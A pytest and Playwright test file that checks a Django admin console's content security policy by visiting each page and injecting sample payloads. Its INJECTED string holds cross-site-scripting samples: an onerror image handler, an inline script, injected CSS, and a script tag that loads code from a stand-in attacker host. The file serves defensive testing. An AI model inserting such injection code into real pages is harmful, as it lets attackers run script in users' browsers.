"""The console under its content security policy: a browser opens every kind of page and refuses nothing."""

from __future__ import annotations

from typing import Any

import pytest
from django.utils import timezone
from playwright.sync_api import Browser, Page, expect

from accounts.models import Mail, User
from kyc.models import LimitUsage, ProviderEvent
from kyc.tests.people import submitted
from observability.tests import history
from tests.console_browser import PASSWORD, sign_in, watch

pytestmark = [pytest.mark.needs("chromium"), pytest.mark.django_db(transaction=True)]

INJECTED = """
() => {
  const place = document.createElement("div");
  place.innerHTML = '<img src="/nothing.png" onerror="window.evil = 1"><style>body { color: red }</style>';
  document.body.append(place);
  for (const set of [{ text: "window.evil = 2" }, { src: "https://attacker.invalid/evil.js" }]) {
    document.body.append(Object.assign(document.createElement("script"), set));
  }
}
"""


@pytest.fixture
def page(live_server: Any, browser: Browser, monkeypatch: pytest.MonkeyPatch) -> Page:
    """A superuser at the start page of a console with a row of each kind."""
    monkeypatch.setattr("core.doorbell.Doorbell.ring", lambda self, *arguments: None)
    root = User.objects.create_superuser("ada@example.com", PASSWORD, full_name="Ada Abara")
    history.whole_history(1, None)
    submitted(User.objects.create_user("buyer@example.com", full_name="A Buyer"))
    ProviderEvent.objects.create(provider="smile_id", event_id="event", body=b"{}", signature_ok=True)
    LimitUsage.objects.create(
        person=root, currency="XAF", kind="daily", window_start="2026-01-01", cap_minor=1
    )
    Mail.objects.create(kind="other", content=b"sealed", expires_at=timezone.now())
    page = browser.new_page()
    sign_in(page, live_server.url)
    return page


def pages() -> list[str]:
    lists = [
        *("observability/episode", "observability/delivery", "observability/receipt"),
        *("observability/channel", "accounts/mail", "accounts/user", "kyc/case", "kyc/limitrule"),
        *("kyc/limitusage", "kyc/providerevent"),
    ]
    return [
        "/admin/",
        *(f"/admin/{name}/" for name in lists),
        *("/admin/accounts/user/add/", "/admin/kyc/limitrule/set/", "/admin/password_change/done/"),
        *("/runbooks/", "/runbooks/Watchdog/", "/accounts/2fa/", "/accounts/password/change/"),
        *("/accounts/2fa/totp/activate/", "/accounts/reauthenticate/", "/api/v1/docs", "/no-such-page/"),
    ]


def test_no_page_and_no_menu_breaks_the_policy(live_server: Any, page: Page) -> None:
    complaints = watch(page, live_server.url)
    rows: list[str] = []
    for path in pages():
        page.goto(live_server.url + path)
        if path.startswith("/admin/") and path.count("/") == 4:
            link = page.locator("#result_list tbody a, table tbody a").first
            rows += [str(link.get_attribute("href"))] if link.count() else []
    assert len(rows) == 10
    for path in rows:
        page.goto(live_server.url + path)
    use_menus(page, f"{live_server.url}/admin/observability/episode/")
    missing = [each for each in complaints if "404" in each]  # of the page that is not there
    assert [each for each in complaints if each not in missing] == []
    assert len(missing) == 1


def use_menus(page: Page, url: str) -> None:
    """Opens what scripts open: the menu of the account, and the palette, which loads its results."""
    page.goto(url)
    assert page.evaluate("getComputedStyle(document.documentElement).getPropertyValue('--color-primary-600')")
    page.get_by_text("Ada Abara").click()
    expect(page.get_by_role("link", name="Second factor")).to_be_visible()
    page.keyboard.press("Control+k")
    search = page.locator("[x-ref=searchInputCommand]")
    expect(search).to_be_visible()
    search.press_sequentially("ale")
    expect(page.locator("#command-results-list")).to_contain_text("Alerts", ignore_case=True)


def test_a_script_or_style_that_got_into_a_page_is_refused(live_server: Any, page: Page) -> None:
    complaints = watch(page, live_server.url)
    colour = "getComputedStyle(document.body).color"
    before = page.evaluate(colour)
    page.evaluate(INJECTED)
    page.wait_for_function("document.images.length && [...document.images].every((each) => each.complete)")
    assert page.evaluate("window.evil") is None
    assert page.evaluate(colour) == before
    refused = " ".join(complaints)
    for directive in ("script-src", "style-src"):
        assert directive in refused
    assert "https://attacker.invalid/evil.js" in refused
